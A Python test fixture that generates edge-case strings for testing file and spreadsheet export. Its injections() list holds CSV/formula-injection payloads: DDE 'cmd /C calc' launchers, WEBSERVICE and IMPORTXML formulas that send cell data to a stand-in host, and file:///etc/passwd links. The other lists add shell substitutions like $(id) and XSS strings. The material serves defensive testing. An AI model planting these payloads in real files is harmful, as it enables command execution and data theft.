"""The texts that go through every way out: naughty ones that break files, and ones that want to be calculated."""

from __future__ import annotations

import json
from pathlib import Path

_BESIDE = Path(__file__).resolve().parents[4] / "shared" / "corpus" / "text" / "blns.json"


def naughty() -> list[str]:
    """The public list where it is present, and our own."""
    public = json.loads(_BESIDE.read_text("utf-8")) if _BESIDE.is_file() else []
    return list(dict.fromkeys([*public, *own()]))


def own() -> list[str]:
    """About a hundred of our own."""
    controls = [f"控制{chr(code)}符" for code in (*range(0x20), 0x7F, 0x80, 0x85, 0x9F)]
    halves = ["半\ud800", "\udc00半", "半\udfff个", "\ud83d", "a\ud83d\ude00b"]
    unusual = [
        "\ufffe头",
        "尾\uffff",
        "\ufeffBOM",
        "a\u2028b",
        "a\u2029b",
        "a\xa0b",
        "\u3000全角空格\u3000",
        "\u200b",
        "零\u200d宽",
        "a\u0301\u0327",
        "Z̸̢̛a̷̛l̶g̵o̸",
    ]
    bidi = [
        "\u202eright\u202c",
        "\u2067אבג\u2069 123",
        "العربية ١٢٣",
        "שלום (עולם)",
        "\u200fRTL\u200e LTR",
        "abc \u061c def",
    ]
    emoji = ["😀", "👨‍👩‍👧‍👦", "👍🏽", "🇨🇳🇪🇺", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "❤️‍🔥", "𠮷野家", "𝒳𝒴", "㊙️", "🀄"]
    long = [
        "长" * 32_767,
        "长" * 32_768,
        "x" * 40_000,
        "😀" * 20_000,
        "W" * 3_000,
        "很长的词" * 200,
        "a b " * 9_000,
        "\n" * 300 + "x",
    ]
    markup = [
        "<b>粗</b>",
        "</t></is></c>",
        "<r><t>x</t></r>",
        "<r>",
        "&amp;",
        "&#0;",
        "&lt;",
        "<![CDATA[x]]>",
        "]]>",
        "<!-- x -->",
        "<?xml version='1.0'?>",
        "<!DOCTYPE a>",
        "<script>alert(1)</script>",
        "<w:br/>",
        "</w:t>",
        "<svg onload=1>",
        "<img src=x onerror=1>",
        "%PDF-1.4",
        "\\u0041",
        "\\x41",
        "{title}",
        "{0}",
        "%s %d %n",
        "$(id)",
        "`id`",
    ]
    escapes = [
        "_x000D_",
        "_x000a_",
        "_x005F_",
        "_x005F_x000D_",
        "x_x0041_y",
        "_x003D_1+1",
        "_x",
        "_x00",
        "__x000D__",
        "_x0000_",
        "_xFFFF_",
        "_xD800_",
    ]
    lines = [
        "一\n二",
        "一\r二",
        "一\r\n二",
        "\n前",
        "后\n",
        "\t前",
        "后\t",
        "一\t二",
        "\r",
        "\n",
        "\t",
        "a\r\rb",
        "a\n\n\nb",
        "a\x0bb\x0cc",
    ]
    blanks = [" 前空格", "后空格 ", "  两边  ", "中  间", " ", "   ", ""]
    quotes = [
        '"',
        '""',
        'a"b',
        '"a"',
        '"a',
        'a"',
        "'",
        "''",
        "'a'",
        "「引」",
        '","',
        '";"',
        '"\n"',
        '"\t"',
        'a""b',
        '"a","b"',
        ";a;b",
        "a,b;c|d\te",
    ]
    figures = [
        "001",
        "1E5",
        "1.10",
        "3-4",
        "12/5",
        "123456789012345678",
        "1,234.50",
        "-5",
        "-0",
        "NaN",
        "nan",
        "Infinity",
        "TRUE",
        "#N/A",
        "#REF!",
        "0x1F",
        "50%",
        "¥100",
        "2026-02-30",
        "待定",
        "-",
        "——",
        "/",
    ]
    names = [
        "CON",
        "nul.txt",
        "a/b\\c",
        "..",
        "../../x",
        "C:\\x",
        "~$a",
        "[a]",
        "a:b*c?d",
        "'sheet'",
        "History",
        "com1.",
        "名" * 60,
        "x" * 31 + "y",
    ]
    return [
        *controls,
        *halves,
        *unusual,
        *bidi,
        *emoji,
        *long,
        *markup,
        *escapes,
        *lines,
        *blanks,
        *quotes,
        *figures,
        *names,
    ]


def injections() -> list[str]:
    """Texts that become formulas, commands or links where a program is careless."""
    found = [
        "=1+1", "=cmd|' /C calc'!A0", "=CMD|'/c calc'!'A1'", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "=2+5+cmd|' /C calc'!A0", 'DDE ("cmd";"/C calc";"x")', '=DDE("cmd";"/C calc";"x")', "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A", '=HYPERLINK("http://127.0.0.1/?x="&A1,"点这里")', '=IMPORTXML(CONCAT("http://127.0.0.1/",A1),"//a")',
        '=IMPORTDATA("http://127.0.0.1/")', '=IMPORTFEED("http://127.0.0.1")', '=IMPORTHTML("http://127.0.0.1","table",1)', '=IMPORTRANGE("x","A1")', '=IMAGE("http://127.0.0.1/x.png")',
        '=WEBSERVICE("http://127.0.0.1/"&A1)', '=FILTERXML(WEBSERVICE("http://127.0.0.1"),"//a")', '=INDIRECT("A1")', "='file:///etc/passwd'#$passwd.A1", "='\\\\127.0.0.1\\s\\[x.xlsx]S'!A1", "=[x.xlsx]S!A1",
        "{=1+1}", "{=SUM(A1:A9)}", "=1+1;", "==1+1", "=+1", "=-1", "=@A1", "=\n1+1", "= 1+1", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@A1", "@SUM(1,1)", "=R1C1", "=RC[-1]+1",
        "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "＝cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "   =1+1", "\u3000=1+1", "\xa0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202a=1+1", "\x00=1+1", "\x01=1+1",
        "'=1+1", "''=1+1", '"=1+1"', '"=1+1', '",=1+1', '";=1+1;"', 'a";=1+1;"b', '"\n=1+1', '"\t=1+1', "_x003D_1+1", "_x000D_=1+1", '="a"&"b"', "%0A=1+1", "&#61;1+1", "=1+1<br>", "-5+A1", "+86 138 0000 0000", "-", "+", "=", "@", "－待定", "- 项目",
        "http://127.0.0.1/x", "mailto:a@b.c", "file:///etc/passwd", "internal:Sheet1!A1", "external:x.xlsx", "javascript:alert(1)", "ftp://127.0.0.1", "\\\\127.0.0.1\\share",
    ]  # fmt: skip
    return list(dict.fromkeys(found))


def all_texts() -> list[str]:
    """Every text once."""
    return list(dict.fromkeys([*naughty(), *injections()]))


def few_texts() -> list[str]:
    """Ours without the public list, the very long ones once."""
    long = [text for text in own() if len(text) > 2_000]
    return list(
        dict.fromkeys([*(text for text in own() if text not in long), "x" * 40_000, "😀" * 20_000, *injections()])
    )
